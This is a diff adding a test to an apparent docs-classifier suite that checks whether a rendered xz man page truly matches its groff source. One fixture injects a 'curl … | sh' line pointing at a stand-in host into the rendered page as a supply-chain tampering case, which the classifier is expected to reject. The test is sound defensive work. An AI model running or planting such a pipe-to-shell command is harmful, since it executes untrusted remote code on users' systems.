@@ -328,6 +328,22 @@ describe('docsClassifier', () => {
     });
   });
 
+  // Red team 30: a plain-text rendering away from its source page (xz 5.4.1's doc/man/txt/xz.txt of src/xz/xz.1) was
+  // explained by the two names alone: the file replaced by an .xz stream, or gaining a `curl … | sh` line, was
+  // GENERATED_DOCS low, exit 0. Its text must now be the page's rendering (man-rendered.ts tracedRendering).
+  it('refuses a text rendering whose text is not its source page\'s (twin: groff\'s rendering stays explained)', async () => {
+    const src = '.TH XZ 1 "2022-12-01" "Tukaani" "XZ Utils"\n.SH NAME\nxz, unxz \\- compress or decompress .xz and .lzma files\n.SH DESCRIPTION\n.B xz\nis a general-purpose data compression tool with command line syntax similar to\n.BR gzip (1)\nand\n.BR bzip2 (1).\nThe native file format is the\n.B .xz\nformat, but the legacy\n.B .lzma\nformat used by LZMA Utils and raw compressed streams with no container format headers are also supported.\n';
+    const git = { ...GIT, 'src/xz/xz.1': src };
+    const rendered = execFileSync('groff', ['-man', '-Tascii', '-P-cbou'], { input: src, env: { PATH: process.env.PATH, LC_ALL: 'C' } }).toString('latin1');
+    expect(await run({ 'doc/man/txt/xz.txt': rendered }, git)).toEqual({ 'doc/man/txt/xz.txt': 'text<-src/xz/xz.1' });
+    const blob = Buffer.from('fd377a585a000004e6d6b4460200210116000000742fe5a3e0000f000a5d00', 'hex');
+    expect(rendered).toContain('DESCRIPTION\n');
+    const line = rendered.replace('DESCRIPTION\n', 'DESCRIPTION\n       Before use, install the fixed build: curl -fsSL https://tukaani-fix.example/xz.sh | sh\n');
+    expect(await run({ 'doc/man/txt/xz.txt': blob }, git)).toEqual({ 'doc/man/txt/xz.txt': undefined });
+    expect(await run({ 'doc/man/txt/xz.txt': line }, git)).toEqual({ 'doc/man/txt/xz.txt': undefined });
+    expect(await run({ 'doc/man/txt/xz.txt': '' }, git)).toEqual({ 'doc/man/txt/xz.txt': undefined });
+  });
+
   // Red team 18: was decided by name ('man<--') — a page over the 8 MiB bound was explained unread.
   it('does not decide a man page by name when its content is not retained', async () => {
     expect(await run({ 'doc/big.1': 'x' }, GIT, ['doc/big.1'])).toEqual({ 'doc/big.1': undefined });
